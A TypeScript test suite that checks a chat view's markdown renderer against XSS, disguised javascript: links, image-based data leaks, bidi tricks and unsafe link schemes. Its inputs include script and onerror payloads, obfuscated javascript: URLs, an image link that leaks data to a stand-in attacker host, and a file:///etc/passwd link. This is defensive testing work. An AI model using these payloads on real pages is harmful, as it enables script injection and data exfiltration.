import assert from 'node:assert/strict';
import { test } from 'node:test';
import { visible } from '../../src/display';
import { openableLink } from '../../src/chatView';
import { Markdown } from '../../webview/markdown';
import { domWindow } from './dom';

function setup() {
  const win = domWindow();
  const calls: Array<[string, string]> = [];
  const md = new Markdown(win, { copy: (t) => calls.push(['copy', t]), insert: (t) => calls.push(['insert', t]) });
  const render = (source: string): HTMLElement => {
    const box = win.document.createElement('div');
    box.append(md.render(source));
    return box;
  };
  return { win, md, render, calls };
}

test('markdown renders: emphasis, lists, inline code, headings, tables', () => {
  const { render } = setup();
  const box = render('# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n');
  assert.equal(box.querySelector('h1')?.textContent, 'Title');
  assert.equal(box.querySelector('strong')?.textContent, 'bold');
  assert.equal(box.querySelector('p code')?.textContent, 'code');
  assert.deepEqual(Array.from(box.querySelectorAll('li')).map((li) => li.textContent), ['one', 'two']);
  assert.equal(box.querySelectorAll('td').length, 2);
});

test('script tags and raw HTML are shown as text, never as elements', () => {
  const { render } = setup();
  const box = render('<script>alert(1)</script>\n\nHello <img src=x onerror=alert(1)> <b onclick="x()">bold</b> <iframe src="https://evil"></iframe>');
  for (const tag of ['script', 'img', 'iframe', 'b']) assert.equal(box.querySelector(tag), null, `no <${tag}>`);
  assert.match(box.textContent ?? '', /<script>alert\(1\)<\/script>/);
  assert.match(box.textContent ?? '', /<img src=x onerror=alert\(1\)>/);
  for (const node of Array.from(box.querySelectorAll('*'))) {
    for (const attribute of Array.from(node.attributes)) assert.doesNotMatch(attribute.name, /^on/i, `${node.tagName} has ${attribute.name}`);
  }
});

test('javascript:, data: and vbscript: links never become links; https ones do, with their target shown', () => {
  const { render } = setup();
  const box = render('[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x) [e](  javascript:alert(1)) <javascript:alert(1)>\n\n[docs](https://example.com/docs) <mailto:me@example.com>');
  const links = Array.from(box.querySelectorAll('a'));
  assert.deepEqual(links.map((a) => a.getAttribute('href')), ['https://example.com/docs', 'mailto:me@example.com']);
  assert.equal(links[0]?.title, 'https://example.com/docs', 'the real target is shown on hover');
  assert.doesNotMatch(box.innerHTML, /href="(javascript|data|vbscript):/i);
});

test('disguised javascript: links (entities, references, angle brackets, escapes) never become links either', () => {
  const { render } = setup();
  const box = render([
    '[a](jav&#x61;script:alert(1)) [b](&#106;avascript:alert(1)) [c](<javascript:alert(1)>) [d](java\\script:alert(1))',
    '[e][1] [f](%6Aavascript:alert(1)) [g](javascript&colon;alert(1)) <a href="javascript:alert(1)">h</a>',
    '',
    '[1]: javascript:alert(1)',
  ].join('\n'));
  for (const a of Array.from(box.querySelectorAll('a'))) {
    assert.match(a.getAttribute('href') ?? '', /^(https?:|mailto:)/i, `a link to ${a.getAttribute('href')}`);
  }
  for (const node of Array.from(box.querySelectorAll('*'))) {
    for (const attribute of Array.from(node.attributes)) assert.doesNotMatch(attribute.value, /script\s*:/i, `${node.tagName} ${attribute.name}`);
  }
  assert.match(box.textContent ?? '', /<a href="javascript:alert\(1\)">h<\/a>/, 'the raw HTML link is shown as text');
});

test('images are never loaded: they become links to the image', () => {
  const { render } = setup();
  const box = render('![secret](https://evil.example/leak?data=abc)');
  assert.equal(box.querySelector('img'), null);
  assert.equal(box.querySelector('a')?.getAttribute('href'), 'https://evil.example/leak?data=abc');
  assert.match(box.textContent ?? '', /\[image: secret\]/);
});

test('bidi and zero-width characters stay visible through markdown, in text, code and links', () => {
  const { render } = setup();
  const raw = 'Safe \u202Etxt.exe\u202C text\u200B.\n\n```bash\nrm -rf /tmp/x\u2067 # ok\n```\n\n[link\u202E](https://example.com/\u200Bx)';
  const box = render(visible(raw));
  const text = box.textContent ?? '';
  assert.match(text, /<U\+202E>txt\.exe<U\+202C>/);
  assert.match(text, /text<U\+200B>\./);
  assert.match(box.querySelector('pre code')?.textContent ?? '', /<U\+2067>/);
  assert.doesNotMatch(text, /[\u202A-\u202E\u2066-\u2069\u200B-\u200F]/u, 'no raw bidi or zero-width character reaches the DOM');
});

test('model-written classes cannot borrow the view\'s (an info string is only a language)', () => {
  const { render } = setup();
  const box = render('```approval-card deny\nx\n```');
  assert.equal(box.querySelector('.approval-card'), null);
  assert.equal(box.querySelector('.deny'), null);
  assert.equal(box.querySelector('code')?.className, 'language-approval-card');
});

test('a code block is highlighted and has Copy and Insert at cursor, acting on the text shown', () => {
  const { render, calls } = setup();
  const box = render('```python\nprint("hi")  # <U+202E>\n```');
  const block = box.querySelector('.code-block');
  assert.ok(block, 'a .code-block');
  assert.equal(block.querySelector('.code-language')?.textContent, 'python');
  assert.ok(block.querySelector('pre code .hljs-built_in, pre code .hljs-string'), 'highlighted');
  (block.querySelector('button.code-copy') as HTMLButtonElement).click();
  (block.querySelector('button.code-insert') as HTMLButtonElement).click();
  assert.deepEqual(calls, [['copy', 'print("hi")  # <U+202E>\n'], ['insert', 'print("hi")  # <U+202E>\n']]);
  assert.equal(block.querySelector('button.code-copy')?.textContent, 'Copied');
});

test('an unknown language is shown as plain, escaped text', () => {
  const { render } = setup();
  const box = render('```nosuchlang\n<b>x</b>\n```');
  assert.equal(box.querySelector('b'), null);
  assert.equal(box.querySelector('pre code')?.textContent, '<b>x</b>\n');
});

test('the host opens only http(s) and mailto links from the view, whatever the view sends', () => {
  assert.equal(openableLink('https://example.com/a'), 'https://example.com/a');
  assert.equal(openableLink(' mailto:me@example.com'), 'mailto:me@example.com');
  for (const bad of ['javascript:alert(1)', 'command:workbench.action.terminal.new', 'file:///etc/passwd', 'vscode://x', 'data:text/html,x', 42, null, `https://${'x'.repeat(9000)}`]) {
    assert.equal(openableLink(bad), undefined, String(bad).slice(0, 40));
  }
});
